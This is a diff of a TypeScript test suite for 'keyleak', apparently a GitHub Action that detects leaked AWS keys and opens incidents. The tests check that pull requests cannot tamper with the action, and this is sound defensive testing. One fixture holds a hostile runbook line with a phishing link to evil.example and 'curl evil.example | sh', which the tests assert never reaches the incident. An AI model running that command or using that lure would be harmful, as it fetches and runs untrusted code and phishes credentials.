@@ -36,14 +36,65 @@ function commands(log: string): string[] {
     .filter((l) => l.startsWith('::') || l.includes('##['));
 }
 
+/** A world whose main gets a first commit, then one leaking `k` (app.env), pushed. */
+function leakOnMain(k: KeyPair): { w: World; base: string; after: string } {
+  const w = world();
+  const base = w.commit('init', { 'README.md': 'x\n' });
+  const after = w.commit('leak', { 'app.env': leak(k) });
+  w.push('main');
+  return { w, base, after };
+}
+
+/** Runs the action on the push of main from `base` to `after`, checked out as the runner would. */
+function onPush(
+  w: World,
+  emu: GitHubEmulator,
+  base: string,
+  after: string,
+  more: { inputs?: Record<string, string>; env?: Record<string, string> } = {},
+) {
+  return runAction({
+    dist,
+    emu,
+    workspace: w.checkout('main', after),
+    event: 'push',
+    payload: pushPayload('refs/heads/main', base, after),
+    ...more,
+  });
+}
+
+/** Runs the action on pull request `number` from branch `feature` (its `head`) into `base`. */
+function onPullRequest(
+  w: World,
+  emu: GitHubEmulator,
+  number: number,
+  pr: { base: string; head: string },
+  inputs: Record<string, string> = {},
+) {
+  w.push('feature');
+  git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/${number}/head`);
+  return runAction({
+    dist,
+    emu,
+    workspace: w.checkout('feature', pr.head),
+    event: 'pull_request',
+    inputs,
+    payload: {
+      number,
+      pull_request: {
+        number,
+        base: { sha: pr.base, repo: { full_name: 'octo/app' } },
+        head: { sha: pr.head, repo: { full_name: 'octo/app' } },
+      },
+    },
+  });
+}
+
 describe('attacks through the action', () => {
   it('a token in the origin URL is published nowhere', async () => {
-    const w = world();
     const k = makePair();
     const token = `ghs_${'T0kenValue'.repeat(4)}`;
-    const base = w.commit('init', { 'README.md': 'x\n' });
-    const after = w.commit('leak', { 'app.env': leak(k) });
-    w.push('main');
+    const { w, base, after } = leakOnMain(k);
     const ws = w.checkout('main', after);
     // As some checkouts and mirrors leave it; git still reaches the remote through insteadOf.
     const tokenUrl = `https://x-access-token:${token}@github.com/octo/app.git`;
@@ -88,13 +139,7 @@ describe('attacks through the action', () => {
     expect(head).not.toBe(after);
     w.push('main');
     const emu = await github();
-    const run = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('main', head),
-      event: 'push',
-      payload: pushPayload('refs/heads/main', base, head),
-    });
+    const run = await onPush(w, emu, base, head);
     expect(run.code, run.stdout).toBe(1);
     // Workflow commands: only keyleak's own (masks, annotations, outputs); none from the file name.
     for (const c of commands(run.stdout)) {
@@ -125,64 +170,68 @@ describe('attacks through the action', () => {
       '.github/keyleak.yml': `allow:\n  paths: ['**']\n  key-ids: ['${k.keyId}']\n`,
       'app.env': leak(k),
     });
-    w.push('feature');
-    git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/7/head`);
     const emu = await github();
-    const run = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('feature', head),
-      event: 'pull_request',
-      payload: {
-        number: 7,
-        pull_request: {
-          number: 7,
-          base: { sha: base, repo: { full_name: 'octo/app' } },
-          head: { sha: head, repo: { full_name: 'octo/app' } },
-        },
-      },
-    });
+    const run = await onPullRequest(w, emu, 7, { base, head });
     expect(run.code, run.stdout).toBe(1);
     expect(run.outputs.findings).toBe('1');
     expect(run.summary).toContain('allow list widened in this pull request');
   });
 
-  it('a pull request cannot write the runbook of the incident its leak opens', async () => {
-    const w = world();
-    const k = makePair();
-    const base = w.commit('init', {
-      '.github/keyleak-runbook.md': '**Who to involve:** #sec-incidents, security@example.org\n',
-    });
-    w.push('main');
-    git(w.dev, 'checkout', '-q', '-b', 'feature');
-    const head = w.commit('update runbook', {
-      '.github/keyleak-runbook.md':
-        'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`\n',
-      'app.env': leak(k),
-    });
-    w.push('feature');
-    git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/9/head`);
-    const emu = await github();
-    const run = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('feature', head),
-      event: 'pull_request',
-      inputs: { 'runbook-template': '.github/keyleak-runbook.md' },
-      payload: {
-        number: 9,
-        pull_request: {
-          number: 9,
-          base: { sha: base, repo: { full_name: 'octo/app' } },
-          head: { sha: head, repo: { full_name: 'octo/app' } },
-        },
+  const RUNBOOK = '.github/keyleak-runbook.md';
+  // The runbook template is keyleak's own markdown in the incident: a change can neither write nor remove it.
+  it.each<[string, string, (w: World, k: KeyPair) => string]>([
+    [
+      'edits',
+      'changed',
+      (w, k) =>
+        w.commit('update runbook', {
+          [RUNBOOK]:
+            'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`\n',
+          'app.env': leak(k),
+        }),
+    ],
+    [
+      'deletes',
+      'deleted',
+      (w, k) => {
+        git(w.dev, 'rm', '-q', RUNBOOK);
+        return w.commit('drop the runbook', { 'app.env': leak(k) });
       },
-    });
-    expect(run.outputs.findings, run.stdout).toBe('1');
+    ],
+  ])(
+    'a pull request that %s the runbook template gets the one from before it in the incident its leak opens',
+    async (_attack, said, change) => {
+      const w = world();
+      const k = makePair();
+      const base = w.commit('init', {
+        [RUNBOOK]: '**Who to involve:** #sec-incidents, security@example.org\n',
+      });
+      w.push('main');
+      git(w.dev, 'checkout', '-q', '-b', 'feature');
+      const head = change(w, k);
+      const emu = await github();
+      const run = await onPullRequest(w, emu, 9, { base, head }, { 'runbook-template': RUNBOOK });
+      expect(run.code, run.stdout).toBe(1);
+      expect(run.outputs.findings).toBe('1');
+      const body = emu.state.repos['octo/app']!.issues[0]!.body;
+      expect(body).toContain('**Who to involve:** #sec-incidents, security@example.org');
+      expect(body).not.toContain('evil.example');
+      expect(run.summary).toContain(`(runbook-template) is ${said} in this pull request`);
+    },
+  );
+
+  it('a push naming a runbook template that was never committed gets the default runbook and says so', async () => {
+    const k = makePair();
+    const { w, base, after } = leakOnMain(k);
+    const emu = await github();
+    const run = await onPush(w, emu, base, after, { inputs: { 'runbook-template': RUNBOOK } });
+    expect(run.code, run.stdout).toBe(1);
+    expect(run.outputs.findings).toBe('1');
     const body = emu.state.repos['octo/app']!.issues[0]!.body;
-    expect(body).toContain('**Who to involve:** #sec-incidents, security@example.org');
-    expect(body).not.toContain('evil.example');
-    expect(run.summary).toContain('(runbook-template) is changed in this pull request');
+    expect(body).toContain('**Security team:**');
+    const warning = `${RUNBOOK} (runbook-template) is not in ${base.slice(0, 12)}, before this push: incidents name the default contacts`;
+    expect(run.summary).toContain(warning);
+    expect(run.stdout).toContain(`::warning::${warning}`);
   });
 
   it('a pull request cannot silence its own leak with an allow marker', async () => {
@@ -199,27 +248,41 @@ describe('attacks through the action', () => {
       'app.env': `aws_access_key_id = ${k.keyId} # keyleak:allow\naws_secret_access_key = ${k.secret}\n`,
       'docs/example.md': `aws_access_key_id = ${old.keyId} # keyleak:allow documented example\nmore\n`,
     });
-    w.push('feature');
-    git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/8/head`);
     const emu = await github();
-    const run = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('feature', head),
-      event: 'pull_request',
-      payload: {
-        number: 8,
-        pull_request: {
-          number: 8,
-          base: { sha: base, repo: { full_name: 'octo/app' } },
-          head: { sha: head, repo: { full_name: 'octo/app' } },
-        },
-      },
-    });
+    const run = await onPullRequest(w, emu, 8, { base, head });
     expect(run.code, run.stdout).toBe(1);
     expect(run.outputs.findings).toBe('1');
     expect(JSON.parse(run.report!).findings.map((f: { keyId: string }) => f.keyId)).toEqual([k.keyId]);
     expect(run.summary).toContain(`allow marker (keyleak:allow) added in this pull request for ${k.keyId}`);
+  });
+
+  it('a GitHub call that never answers ends the run with an error naming it, and the findings are kept', async () => {
+    const k = makePair();
+    const { w, base, after } = leakOnMain(k);
+    const state = makeState(['octo/app']);
+    state.faults.push({
+      method: 'POST',
+      path: /^\/repos\/octo\/app\/issues$/,
+      status: 0,
+      hang: true,
+      times: Infinity,
+    });
+    const emu = await startGitHubEmulator(state);
+    closers.push(emu);
+    const run = await onPush(w, emu, base, after, {
+      // Each request's deadline, 30 s in a real run, made short so the test does not wait for it.
+      env: { KEYLEAK_GITHUB_TIMEOUT_MS: '500' },
+    });
+    expect(run.code, run.stdout).toBe(1);
+    expect(run.stdout).toContain('GitHub did not answer POST /repos/octo/app/issues within 0.5 s');
+    expect(run.stdout).toMatch(
+      /::error::keyleak: 1 GitHub or AWS step\(s\) could not be done: .*no incident was written/,
+    );
+    expect(run.outputs.findings).toBe('1');
+    expect(JSON.parse(run.report!).findings.map((f: { keyId: string }) => f.keyId)).toEqual([k.keyId]);
+    expect(run.sarif).toContain(k.keyId);
+    expect(run.summary).toContain('GitHub did not answer POST /repos/octo/app/issues');
+    expect(emu.state.repos['octo/app']!.issues).toHaveLength(0);
   });
 
   it('revoked responder credentials fail the run and are named as such, never as "not managed"', async () => {
@@ -242,17 +305,9 @@ describe('attacks through the action', () => {
     closers.push(aws);
     aws.state.keys.get(responder.keyId)!.status = 'Inactive';
     useEmulatorEnv(aws, responder);
-    const w = world();
-    const base = w.commit('init', { 'README.md': 'x\n' });
-    const after = w.commit('leak', { 'app.env': leak(leaked) });
-    w.push('main');
+    const { w, base, after } = leakOnMain(leaked);
     const emu = await github();
-    const run = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('main', after),
-      event: 'push',
-      payload: pushPayload('refs/heads/main', base, after),
+    const run = await onPush(w, emu, base, after, {
       // Findings alone would not fail this run: the failure to contain does.
       inputs: { verify: 'true', deactivate: 'true', 'fail-on-findings': 'false' },
     });
@@ -267,12 +322,7 @@ describe('attacks through the action', () => {
     expect(aws.state.keys.get(leaked.keyId)!.status).toBe('Active');
 
     // fail-on-errors: false reports the same and lets the run pass.
-    const again = await runAction({
-      dist,
-      emu,
-      workspace: w.checkout('main', after),
-      event: 'push',
-      payload: pushPayload('refs/heads/main', base, after),
+    const again = await onPush(w, emu, base, after, {
       inputs: { verify: 'true', deactivate: 'true', 'fail-on-findings': 'false', 'fail-on-errors': 'false' },
     });
     expect(again.code, again.stdout).toBe(0);
